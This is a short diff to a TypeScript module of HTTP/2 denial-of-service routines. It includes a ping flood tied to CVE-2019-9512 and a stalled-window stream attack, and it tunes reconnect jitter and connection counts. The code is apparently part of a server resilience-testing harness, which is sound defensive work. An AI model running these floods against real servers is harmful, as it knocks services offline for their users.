@@ -77,7 +77,7 @@ function hasty({ port, count }: Assault, connections: number, frames: (stream: n
       (socket) => {
         let stream = -1;
         socket.resume();
-        socket.once('close', () => setTimeout(() => void open().catch(() => {}), 100));
+        socket.once('close', () => setTimeout(() => void open().catch(() => {}), 50 + 100 * Math.random()));
         socket.write(Buffer.concat([preface, first]));
         const again = (): void => {
           if (socket.destroyed) return;
@@ -129,9 +129,10 @@ export const assaults: Record<string, (assault: Assault) => Promise<void>> = {
     ),
   // CVE-2019-9512.
   'h2-pings': (assault) => hasty(assault, assault.count / 100, () => frame(PING, 0, 0, Buffer.alloc(8))),
+  // Not more of them: what the application sends fills buffers of the kernel's, and beyond tcp_mem (tcp(7)) everybody's connections stall.
   'h2-shut-windows': (assault) =>
     openAll(
-      { ...assault, count: Math.ceil(assault.count / 10) },
+      { ...assault, count: Math.ceil(assault.count / 50) },
       (socket) => {
         socket.write(Buffer.concat([preface, ...[1, 3, 5, 7].map((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, get('/endless')))]));
         socket.resume();
